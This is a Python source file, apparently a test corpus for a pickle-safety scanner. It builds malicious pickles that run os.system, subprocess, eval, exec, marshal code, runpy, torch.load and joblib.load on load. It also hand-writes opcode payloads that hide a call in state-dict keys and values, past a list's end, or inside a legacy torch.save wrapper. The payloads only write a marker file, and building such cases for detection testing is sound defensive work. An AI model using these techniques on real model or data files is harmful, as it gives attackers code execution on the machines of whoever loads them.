"""Pickles that run something when they are loaded; each tries to write the same marker."""

import builtins
import cProfile
import functools
import importlib
import marshal
import os
import pickle
import posix
import runpy
import subprocess
import timeit
from typing import Any

import cloudpickle
import joblib
import numpy as np
import torch
from hostile_case import Scene

PROTOCOLS = range(pickle.HIGHEST_PROTOCOL + 1)


class Call:
    """Becomes a call when it is unpickled."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self.call = function, arguments

    def __call__(self) -> None:
        """Only a pickle that is loaded calls what a call returned; the writer wants to see something callable."""

    def __reduce__(self) -> tuple[Any, ...]:
        return self.call


def calls(scene: Scene) -> dict[str, Call]:
    """Return calls that run a program, by what they call; the folder of the scene holds what some of them load."""
    code = marshal.dumps(compile(scene.python, "hostile", "exec"))
    shared = str(scene.shared)
    return {
        "posix.system": Call(posix.system, scene.shell),
        "subprocess.Popen": Call(subprocess.Popen, ["touch", str(scene.marker)]),
        "subprocess.check_output": Call(subprocess.check_output, ["touch", str(scene.marker)]),
        "builtins.eval": Call(builtins.eval, scene.python),
        "builtins.exec": Call(builtins.exec, scene.python),
        "builtins.open": Call(builtins.open, str(scene.marker), "w"),
        "os.open": Call(os.open, str(scene.marker), os.O_CREAT | os.O_WRONLY),
        "os.mkdir": Call(os.mkdir, str(scene.marker)),
        "getattr of an import": Call(Call(getattr, Call(importlib.import_module, "os"), "system"), scene.shell),
        "marshal.loads": Call(builtins.exec, Call(marshal.loads, code)),
        "functools.partial": Call(functools.partial(os.system, scene.shell)),
        "pickle.loads": Call(pickle.loads, pickle.dumps(Call(os.system, scene.shell))),
        "runpy.run_path": Call(runpy.run_path, f"{shared}/hubconf.py"),
        "timeit.timeit": Call(timeit.timeit, scene.python, "pass", timeit.default_timer, 1),
        "cProfile.run": Call(cProfile.run, scene.python, f"{shared}/profile"),
        "numpy.load": Call(functools.partial(np.load, f"{shared}/objects.npy", allow_pickle=True)),
        "torch.load": Call(functools.partial(torch.load, f"{shared}/program.pt", weights_only=False)),
        "torch.hub.load": Call(functools.partial(torch.hub.load, shared, "go", source="local")),
        "joblib.load": Call(joblib.load, f"{shared}/program.joblib"),
        "numpy.savetxt": Call(np.savetxt, str(scene.marker), [1.0]),
        "torch.save": Call(torch.save, {}, str(scene.marker)),
    }


def programs(scene: Scene) -> dict[str, bytes]:
    """Return pickles that write the marker when Python loads them."""
    shell = f"S'{scene.shell}'\n".encode()
    found = {
        f"os.system in protocol {protocol}": pickle.dumps(Call(os.system, scene.shell), protocol)
        for protocol in PROTOCOLS
    }
    found |= {
        f"{name} in protocol {index % len(PROTOCOLS)}": pickle.dumps(call, index % len(PROTOCOLS))
        for index, (name, call) in enumerate(calls(scene).items())
    }
    run = pickle.dumps(Call(os.system, scene.shell), 2)[2:-1]
    return found | {
        "a function by value": cloudpickle.dumps(Call(lambda: scene.marker.touch())),
        "INST": b"(" + shell + b"ios\nsystem\n.",
        "OBJ": b"(cos\nsystem\n" + shell + b"o.",
        "GLOBAL and REDUCE": b"cos\nsystem\n(" + shell + b"tR.",
        "STACK_GLOBAL": b"\x80\x04\x8c\x02os\x8c\x06system\x93" + shell + b"\x85R.",
        "BUILD": b"ctypes\nSimpleNamespace\n)R}S'__setstate__'\ncos\nsystem\nsb" + shell + b"b.",
        "a key of a state dict": b"\x80\x02}" + run + b"K\x01s.",
        "a value of a state dict": b"\x80\x02}X\x01\x00\x00\x00w" + run + b"s.",
        "a call behind the end of a list": b"\x80\x02](" + run + b"e0" + run + b".",
        "a call that is dropped": b"\x80\x02" + run + b"0}.",
    }


def legacy(program: bytes) -> bytes:
    """Return a file of torch.save before version 1.6 around a pickle of one's own."""
    system = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}
    magic = 0x1950A86A20F9469CFC6C
    head = b"".join(pickle.dumps(one, 2) for one in (magic, 1001, system))
    return head + program + pickle.dumps([], 2)
